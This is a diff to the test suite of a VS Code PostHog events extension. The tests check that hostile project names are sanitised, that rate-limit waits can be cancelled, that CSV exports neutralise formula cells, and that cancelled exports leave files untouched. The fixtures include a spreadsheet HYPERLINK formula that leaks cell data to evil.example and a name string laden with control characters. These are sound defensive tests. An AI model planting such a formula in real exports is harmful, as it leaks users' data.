@@ -1,11 +1,11 @@
 import assert from 'node:assert/strict';
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { after, before, describe, it } from 'mocha';
 import * as vscode from 'vscode';
 import { EventsCommands } from '../../src/events/eventsCommands';
-import { exportEvents } from '../../src/events/exportEvents';
+import { CSV_FORMULA_CELLS_SETTING, exportEvents } from '../../src/events/exportEvents';
 import type { EventsPanel } from '../../src/events/eventsPanel';
 import { defaultFilters, type ExtensionMessage, type WebviewMessage } from '../../src/events/protocol';
 import { EventsNode } from '../../src/events/eventsNode';
@@ -86,6 +86,20 @@ describe('Events explorer (in the editor)', () => {
     assert.equal(iconOf(events), 'pulse');
     assert.equal(events.command?.command, 'posthogExplorer.browseEvents');
     assert.equal(events.command?.arguments?.[0], children[1]!.node);
+  });
+
+  it('puts a project name from the server on one safe line in the Events item\'s tooltip and the panel\'s title', async () => {
+    const staging = (await harness.child('Hedgebox Inc.', 'Hedgebox Staging', 'Events')) as EventsNode;
+    const hostile = 'Q3\n[click](https://evil.example)\u202Eevil\u0007';
+    const node = new EventsNode(staging, staging.session, { ...staging.project, name: hostile });
+    assert.equal(node.treeItem().tooltip, 'Browse the events of Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
+    const opened = await commands.browseEvents(node);
+    assert.ok(opened);
+    try {
+      assert.equal(opened.panel.title, 'Events: Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
+    } finally {
+      opened.dispose();
+    }
   });
 
   it('opens a panel whose webview script runs under the CSP and asks for the first page', async () => {
@@ -230,6 +244,44 @@ describe('Events explorer (in the editor)', () => {
     assert.match(detail.detail.properties, /^\{\n  "/);
   });
 
+  /** The id of the newest event the panel lists. */
+  async function newestEventId(): Promise<string> {
+    const posted = record(panel);
+    await panel.receive({ type: 'query', filters: defaultFilters() });
+    const rows = posted.find((message) => message.type === 'rows' && message.rows.length > 0);
+    const id = rows?.type === 'rows' ? rows.rows[0]?.id : undefined;
+    assert.ok(id);
+    return id;
+  }
+  const detailPath = '/events/[0-9a-f]{8}-[0-9a-f-]+/$';
+
+  it('an event\'s detail says what it waits for when PostHog\'s limit makes the key wait, then shows the event', async () => {
+    const id = await newestEventId();
+    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
+    const posted = record(panel);
+    await panel.receive({ type: 'open', id });
+    const details = posted.flatMap((message) => (message.type === 'detail' ? [message] : []));
+    assert.match(details[0]?.waiting ?? '', /^PostHog asked to wait 2 s \(its rate limit for this API key\); going on at /, JSON.stringify(details[0]));
+    assert.equal(details.at(-1)?.detail?.id, id);
+  });
+
+  it('closing an event\'s detail stops its wait for PostHog\'s limit: nothing more is asked or shown', async () => {
+    const id = await newestEventId();
+    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
+    await localApi.clearRequests();
+    const posted = record(panel);
+    const started = Date.now();
+    const opening = panel.receive({ type: 'open', id });
+    await waitFor(panel.onDidPost, (message) => message.type === 'detail' && message.waiting !== undefined, 'the wait to show');
+    await panel.receive({ type: 'closeDetail', id });
+    await opening;
+    assert.ok(Date.now() - started < 1_500, `stopped at once (${Date.now() - started} ms), not after PostHog's 2 s`);
+    assert.deepEqual(posted.flatMap((message) => (message.type === 'detail' && message.waiting === undefined ? [message] : [])), []);
+    const asked = (await localApi.requests()).filter((request) => new RegExp(detailPath).test(request.path));
+    assert.deepEqual(asked.map((request) => request.status), [429]);
+    await new Promise((resolve) => setTimeout(resolve, 2_000)); // the key's events wait out PostHog's 2 s before the next test
+  });
+
   it('copies what the webview asks through the window seam: the clipboard, and a word in the status bar', async () => {
     await panel.receive({ type: 'copy', text: '{"event":"$pageview"}' });
     assert.equal(harness.env.clipboard.text, '{"event":"$pageview"}');
@@ -277,9 +329,32 @@ describe('Events explorer (in the editor)', () => {
     );
   });
 
-  it('a cancelled export leaves no file behind', async () => {
-    saveTo = vscode.Uri.file(path.join(tmp, 'cancelled.json'));
-    const cancelling: WindowApi = {
+  it('a CSV export starts cells a spreadsheet would run as formulas with a quote, unless posthogExplorer.events.csvFormulaCells is raw', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+    await localApi.addEventsNow(eventsNode.project.id, 1, 'formula_cells', undefined, { payload: formula, price: -5, 'a.b': 'dotted key', a: { b: 'nested' } });
+    const exported = async (name: string) => {
+      saveTo = vscode.Uri.file(path.join(tmp, name));
+      await panel.receive({ type: 'export', format: 'csv', filters: { ...defaultFilters(), event: 'formula_cells', exportLimit: '10' } });
+      const [header, row] = csvRecords(readFileSync(saveTo.fsPath, 'utf8'));
+      return (column: string) => row![header!.indexOf(column)];
+    };
+    const neutral = await exported('formulas.csv');
+    assert.equal(neutral('properties.payload'), `'${formula}`);
+    assert.equal(neutral('properties.price'), '-5', 'a plain number is not a formula');
+    assert.equal(neutral('properties.a.b'), 'nested');
+    assert.equal(neutral('properties["a.b"]'), 'dotted key', 'a dotted key keeps a column of its own');
+    const settings = vscode.workspace.getConfiguration();
+    await settings.update(CSV_FORMULA_CELLS_SETTING, 'raw', vscode.ConfigurationTarget.Global);
+    try {
+      const raw = await exported('formulas-raw.csv');
+      assert.equal(raw('properties.payload'), formula);
+    } finally {
+      await settings.update(CSV_FORMULA_CELLS_SETTING, undefined, vscode.ConfigurationTarget.Global);
+    }
+  });
+
+  describe('a cancelled export', () => {
+    const cancelling = (): WindowApi => ({
       ...harness.window.api,
       withProgress: ((_options: vscode.ProgressOptions, task: (progress: unknown, token: vscode.CancellationToken) => Thenable<unknown>) => {
         const source = new vscode.CancellationTokenSource();
@@ -287,15 +362,33 @@ describe('Events explorer (in the editor)', () => {
         source.cancel();
         return running;
       }) as unknown as WindowApi['withProgress'],
-    };
-    const outcome = await exportEvents(
-      (await harness.connections.session(eventsNode.session.connection.id))!.client.events,
-      { projectId: eventsNode.project.id, projectName: 'Hedgebox', filters: {}, format: 'json', rows: 5_000 },
-      cancelling,
-      async () => saveTo,
-    );
-    assert.equal(outcome.kind, 'cancelled');
-    assert.equal(existsSync(saveTo.fsPath), false);
+    });
+    const cancelledExport = async (target: vscode.Uri, format: 'csv' | 'json') =>
+      exportEvents(
+        (await harness.connections.session(eventsNode.session.connection.id))!.client.events,
+        { projectId: eventsNode.project.id, projectName: 'Hedgebox', filters: {}, format, rows: 5_000 },
+        cancelling(),
+        async () => target,
+      );
+
+    it('leaves no file behind', async () => {
+      const folder = mkdtempSync(path.join(tmp, 'cancelled-'));
+      const outcome = await cancelledExport(vscode.Uri.file(path.join(folder, 'cancelled.json')), 'json');
+      assert.equal(outcome.kind, 'cancelled');
+      assert.deepEqual(readdirSync(folder), []);
+    });
+
+    it('keeps the file the user chose to replace as it was, and leaves nothing beside it', async () => {
+      const folder = mkdtempSync(path.join(tmp, 'replace-'));
+      const target = vscode.Uri.file(path.join(folder, 'last-week.csv'));
+      writeFileSync(target.fsPath, 'id,event\r\nlast week,$pageview\r\n');
+      harness.window.messages.length = 0;
+      const outcome = await cancelledExport(target, 'csv');
+      assert.equal(outcome.kind, 'cancelled');
+      assert.equal(readFileSync(target.fsPath, 'utf8'), 'id,event\r\nlast week,$pageview\r\n');
+      assert.deepEqual(readdirSync(folder), ['last-week.csv']);
+      assert.equal(harness.window.messages.at(-1)?.text, `Export cancelled; nothing was written to ${vscode.workspace.asRelativePath(target)}.`);
+    });
   });
 
   it('restores a panel after a reload from its saved state (serializer)', async () => {
